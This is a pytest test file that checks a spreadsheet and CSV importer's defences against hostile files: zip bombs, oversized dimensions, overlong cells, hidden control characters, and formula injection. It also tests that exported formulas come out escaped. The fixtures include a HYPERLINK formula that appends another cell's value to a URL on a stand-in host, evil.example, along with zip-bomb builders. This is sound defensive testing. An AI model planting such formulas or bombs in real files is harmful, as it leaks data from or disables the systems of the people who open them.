"""Spreadsheets built to hurt: each is refused (or read safely) quickly, with a clear reason, and
changes nothing; the event loop keeps turning while a big file is read."""
import asyncio
import time

import pytest
from sqlmodel import func, select

from domain.dataio import export_kind, import_file, validate_file
from domain.dataio.budget import ImportBudget
from domain.errors import InvalidInput
from domain.models import Customer, Product

from . import xlsx

HEADER = ["sku", "name", "price"]


async def _products(session) -> int:
    return (await session.exec(select(func.count()).select_from(Product))).one()


async def test_declared_dimension_is_refused_before_reading(session, tmp_path):
    path = xlsx.huge_dimension(tmp_path / "products.xlsx", [HEADER, ["A1", "Bolt", 1]])
    assert path.stat().st_size < 10_000
    started = time.perf_counter()
    with pytest.raises(InvalidInput, match="declares 17,179,869,184 cells"):
        await import_file(session, "products", path, dry_run=True)
    assert time.perf_counter() - started < 2
    assert await _products(session) == 0


async def test_far_cells_without_a_dimension_stop_at_the_cell_budget(session, tmp_path):
    path = xlsx.far_cells_without_dimension(tmp_path / "products.xlsx", [HEADER, ["A1", "Bolt", 1]], far_rows=2000)
    started = time.perf_counter()
    with pytest.raises(InvalidInput, match="more than 10,000,000 cells"):
        await import_file(session, "products", path)
    assert time.perf_counter() - started < 20
    assert await _products(session) == 0


async def test_zip_bomb_is_refused_from_the_zip_directory(session, tmp_path):
    path = xlsx.cell_bomb(tmp_path / "products.xlsx", [HEADER, ["A1", "Bolt", 1]], megabytes=300)
    assert path.stat().st_size < 2_000_000
    started = time.perf_counter()
    with pytest.raises(InvalidInput, match="unpacks to 300 MB; the limit is 256 MB"):
        await validate_file(session, "products", path)
    assert time.perf_counter() - started < 2
    # Within the total: the single 300 MB cell is still found, by streaming the sheet's XML.
    started = time.perf_counter()
    with pytest.raises(InvalidInput, match="has a cell of more than 1 MB"):
        await validate_file(session, "products", path, budget=ImportBudget(max_unpacked_bytes=1 << 40))
    assert time.perf_counter() - started < 5
    # Shared strings (held in memory whole) have a limit of their own.
    data = xlsx.workbook([HEADER, ["A1", "Bolt", 1]])
    strings = xlsx.rebuild(data, tmp_path / "strings.xlsx", big={"xl/sharedStrings.xml": (b"<sst>", b"A" * (1 << 20), 70, b"</sst>")})
    with pytest.raises(InvalidInput, match="unpacks to 70 MB; the limit is 64 MB"):
        await validate_file(session, "products", strings)


async def test_time_budget_stops_an_import_and_writes_nothing(session, tmp_path):
    rows = "\n".join(f"P{i},Product {i},1.5" for i in range(30_000))
    path = tmp_path / "products.csv"
    path.write_text("sku,name,price\n" + rows + "\n", encoding="utf-8")
    with pytest.raises(InvalidInput, match="took longer than 0 s"):
        await import_file(session, "products", path, budget=ImportBudget(max_seconds=0.0001))
    await session.rollback()
    assert await _products(session) == 0


async def test_formula_cells_are_read_as_their_value_and_exported_as_text(session, tmp_path):
    path = xlsx.formula_cells(tmp_path / "customers.xlsx", [
        ["code", "name"],
        ["C1", ("f", 'HYPERLINK("http://evil.example/?d="&C2,"Open invoice")', "Open invoice")],
        ["C2", '=HYPERLINK("http://evil.example/","x")'],
    ])
    s = await import_file(session, "customers", path, country="BG")
    assert s.errors == 0, s.report.render()
    await session.commit()
    names = {c.code: c.name for c in (await session.exec(select(Customer))).all()}
    assert names == {"C1": "Open invoice", "C2": '=HYPERLINK("http://evil.example/","x")'}
    out = tmp_path / "out.csv"
    await export_kind(session, "customers", "csv", out)
    assert "'=HYPERLINK" in out.read_text(encoding="utf-8")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_very_long_cells_are_row_errors(session, tmp_path, fmt):
    long_name = "N" * (9_000_000 if fmt == "csv" else 900_000)  # the probe's 9 MB name; XLSX: see below
    rows = [HEADER, ["A1", long_name, 1], ["A2", "x" * 201, 1], ["A3", "Fine", 1]]
    if fmt == "csv":
        path = tmp_path / "products.csv"
        path.write_text("\n".join(",".join(map(str, r)) for r in rows) + "\n", encoding="utf-8")
    else:
        path = xlsx.formula_cells(tmp_path / "products.xlsx", rows)
    s = await import_file(session, "products", path)
    assert s.errors == 2
    reasons = {e.line: e.reason for e in s.report.rows}
    assert f"{len(long_name)} characters, at most 4000" in reasons[2] and "201 characters, at most 200" in reasons[3]
    assert await _products(session) == 0
    if fmt == "xlsx":  # a cell over 1 MB is refused before the sheet is parsed at all
        path = xlsx.formula_cells(tmp_path / "big.xlsx", [HEADER, ["A1", "N" * 9_000_000, 1]])
        with pytest.raises(InvalidInput, match="has a cell of more than 1 MB"):
            await import_file(session, "products", path)


async def test_hidden_characters_leave_imported_names(session, tmp_path):
    path = tmp_path / "products.csv"
    path.write_text("sku,name\nA\u200b1,\u202eBolt\u202c M8\u0007\n", encoding="utf-8")
    s = await import_file(session, "products", path)
    assert s.errors == 0, s.report.render()
    await session.commit()
    p = (await session.exec(select(Product))).one()
    assert (p.sku, p.name) == ("A1", "Bolt M8")


async def test_the_event_loop_keeps_turning_while_a_big_xlsx_is_read(session, tmp_path):
    path = tmp_path / "products.xlsx"
    path.write_bytes(xlsx.workbook([HEADER] + [[f"P{i}", f"Product {i}", 1.5] for i in range(40_000)]))
    gaps: list[float] = []
    done = asyncio.Event()

    async def ticker():
        last = time.perf_counter()
        while not done.is_set():
            await asyncio.sleep(0.01)
            now = time.perf_counter()
            gaps.append(now - last)
            last = now

    tick = asyncio.create_task(ticker())
    started = time.perf_counter()
    report = await validate_file(session, "products", path)
    took = time.perf_counter() - started
    done.set()
    await tick
    assert report.ok and report.rows_read == 40_000
    # Reading the XML is most of the time and runs in a worker thread: the loop answers other
    # messages all along (what stays on it is a chunk's database look-ups).
    assert len(gaps) > 20 and max(gaps) < max(0.5, took / 4), (took, max(gaps), len(gaps))
